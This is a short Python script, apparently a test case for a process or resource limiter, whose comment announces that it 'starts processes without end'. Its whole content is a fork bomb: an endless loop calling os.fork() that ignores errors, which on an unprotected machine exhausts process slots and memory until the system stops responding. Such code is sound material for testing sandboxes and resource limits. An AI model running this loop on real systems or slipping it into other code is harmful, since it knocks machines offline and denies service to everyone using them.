# starts processes without end
# A,B,C: time|processes|exit|signal|memory
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
